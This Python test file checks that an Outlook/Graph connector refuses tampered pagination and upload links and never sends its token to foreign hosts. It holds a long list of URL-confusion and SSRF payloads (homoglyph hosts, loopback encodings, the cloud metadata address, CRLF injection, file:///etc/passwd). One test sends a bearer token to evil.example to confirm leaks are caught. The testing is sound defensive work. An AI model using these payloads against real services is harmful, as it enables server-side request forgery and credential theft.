"""A Graph that has been tampered with links elsewhere, in lists and for uploads: no token and no request gets there."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
import requests

from outlook_connector import Connector, ConnectorError

from .proxy import Heard, Said
from .rogue_world import GRAPH, TOKEN, UPLOAD, Net, connector, net, says, uploading, world

__all__ = ["connector", "net", "world"]
"""The fixtures, which pytest looks for here."""

PLACES = (
    "https://evil.example{path}",
    "https://evil.example:443{path}",
    "//evil.example{path}",
    "http://127.0.0.1:{plain}{path}",
    "http://localhost:{plain}{path}",
    "https://evil.example\\@{graph}{path}",
    "https://evil.example#@{graph}{path}",
    "https://evil.example?@{graph}{path}",
    "https://evil.example/@{graph}{path}",
    "https://evil.example\t@{graph}{path}",
    "https://{graph}@evil.example{path}",
    "https://{graph}:443@evil.example{path}",
    "https://{graph}%40evil.example{path}",
    "https://{graph}\\@evil.example{path}",
    "https://{graph}\\.evil.example{path}",
    "https://{graph}\t.evil.example{path}",
    "https://{graph}.evil.example{path}",
    "https://{graph}evil.example{path}",
    "https://{graph}:8443{path}",
    "https://{graph}:44３{path}",
    "https://grаph.contoso.example{path}",
    "https://xn--grph-43d.contoso.example{path}",
    "https://graph。contoso。example.evil.example{path}",
    "https://ｇraph.contoso.example:8443{path}",
    "https://graph.contoso.example。evil.example{path}",
    "https://127.0.0.1:8443{path}",
    "https://2130706433:8443{path}",
    "https://0x7f.1:8443{path}",
    "https://[::1]:8443{path}",
    "https://[::ffff:127.0.0.1]:8443{path}",
    "https://[::ffff:7f00:1%25eth0]:8443{path}",
    "https://[evil.example]{path}",
    "https:\\\\evil.example{path}",
    "https:/\tevil.example{path}",
    " https://evil.example{path}",
    "\thttps://evil.example{path}",
    "https:evil.example{path}",
    "https:///evil.example{path}",
    "/\\evil.example{path}",
    "ftp://evil.example{path}",
    "file:///etc/passwd",
    "https://evil.example\x00.{graph}{path}",
    "https://evil.example\r\nHost: {graph}{path}",
    "https://",
    "https://:443{path}",
    "",
)
"""Where no token may go; the connection's Graph is ``graph``."""


OWN = (
    "https://{graph}:443{path}",
    "https://GRAPH.contoso.example{path}",
    "HTTPS://{graph}{path}",
    "https://{graph}.{path}",
    "https://user:word@{graph}{path}",
    "https://@{graph}{path}",
    "https://{graph}/v1.0/../beta/me/messages",
    "https://{graph}/v1.0/%2e%2e/beta/me/messages",
    "https://{graph}/beta/me/messages",
    "https://{graph}\\v1.0/me/messages",
    "https://{graph}/v1.0\\..\\beta/me/messages",
)
"""Other ways to write the connection's own host, or another API of it: none is needed, and none is followed."""


def links(name: str, link: str) -> Callable[[Heard], Said | None]:
    """Every list leads to ``link``."""
    return lambda heard: says(value=[{"id": "x", "@odata.etag": "x"}], **{f"@odata.{name}": link})


def everything(connector: Connector, name: str, given: dict[str, Any]) -> None:
    """Runs it, and goes on with what it gave, as a flow would."""
    answer = connector.invoke(name, given)
    cursor = answer.get("nextCursor") or answer.get("cursor")
    connector.invoke(name, {**given, "cursor": cursor})


def test_the_attacker_hears_what_is_sent_to_it(net: Net) -> None:
    """The others can fail: whoever sends a token elsewhere is heard."""
    proxies, headers = {"https": net.proxy}, {"Authorization": f"Bearer {TOKEN}"}
    for place in ("https://evil.example/x", "https://[::1]:8443/x", f"https://{GRAPH}:8443/x"):
        requests.get(place, proxies=proxies, headers=headers, verify=net.authorities, timeout=5)
    assert [one.headers["Authorization"] for one in net.elsewhere] == [f"Bearer {TOKEN}"] * 3


@pytest.mark.parametrize("form", [*PLACES, *OWN])
@pytest.mark.parametrize(
    ("name", "link", "given"),
    [
        ("messages.list", "nextLink", {"limit": 1}),
        ("messages.changes", "nextLink", {"folder": "inbox", "limit": 1}),
        ("messages.changes", "deltaLink", {"folder": "inbox"}),
        ("folders.changes", "deltaLink", {}),
    ],
)
def test_a_link_that_leads_elsewhere_is_not_followed(
    name: str, link: str, given: dict[str, Any], form: str, net: Net, connector: Connector
) -> None:
    net.script = links(link, net.address(form))
    with pytest.raises(ConnectorError) as caught:
        everything(connector, name, given)
    assert not net.leaks
    assert len(net.graph) == 1, "one answer, and nothing after it"
    assert caught.value.code in ("unexpectedResponse", "invalidInput")


@pytest.mark.parametrize("form", [*PLACES, *OWN])
def test_a_listing_that_goes_on_by_itself_stops_at_such_a_link(
    form: str, net: Net, connector: Connector
) -> None:
    net.script = links("nextLink", net.address(form))
    if not form:
        pytest.skip("no link is the end")
    with pytest.raises(ConnectorError):
        list(connector.iterate("messages.list", {"pageSize": 1}))
    assert not net.leaks


@pytest.mark.parametrize("form", [*PLACES, *OWN])
def test_an_upload_carries_no_token_wherever_it_goes(form: str, net: Net, connector: Connector) -> None:
    net.script = uploading(net.address(form, "/upload?authtoken=x"))
    try:
        connector.invoke("attachments.add", {"messageId": "m" * 80, "attachment": UPLOAD})
    except ConnectorError as error:
        assert error.code == "unexpectedResponse" or net.elsewhere
    assert not net.plain, "nothing goes without TLS"
    for heard in net.elsewhere:
        assert "Authorization" not in heard.headers
        assert TOKEN not in str(heard)
    assert not [one for one in net.graph if one.method == "PUT" and "Authorization" in one.headers]


@pytest.mark.parametrize(
    "form",
    [
        *(
            "http://127.0.0.1:{plain}{path}",
            "https://user:word@{graph}{path}",
            "https://evil.example\\@{graph}{path}",
        ),
        *("https://127.0.0.1:8443{path}", "https://[::1]:8443{path}", "https://localhost:8443{path}"),
        *("https://169.254.169.254{path}", "https://10.0.0.1{path}", "https://2130706433:8443{path}"),
        "https://grаph.contoso.example{path}",
    ],
)
def test_an_upload_goes_to_no_address_that_a_service_would_not_name(
    form: str, net: Net, connector: Connector
) -> None:
    """Plain HTTP, names in two readings, and the machines of one's own network."""
    net.script = uploading(net.address(form, "/upload?authtoken=x"))
    with pytest.raises(ConnectorError) as caught:
        connector.invoke("attachments.add", {"messageId": "m" * 80, "attachment": UPLOAD})
    assert caught.value.code == "unexpectedResponse"
    assert not net.leaks


def test_an_upload_to_the_right_host_carries_no_token_either(net: Net, connector: Connector) -> None:
    net.script = uploading(f"https://{GRAPH}/upload?authtoken=x")
    connector.invoke("attachments.add", {"messageId": "m" * 80, "attachment": UPLOAD})
    put = [one for one in net.graph if one.method == "PUT"]
    assert put
    assert not [one for one in put if "authorization" in str(one.headers).lower() or TOKEN in str(one)]
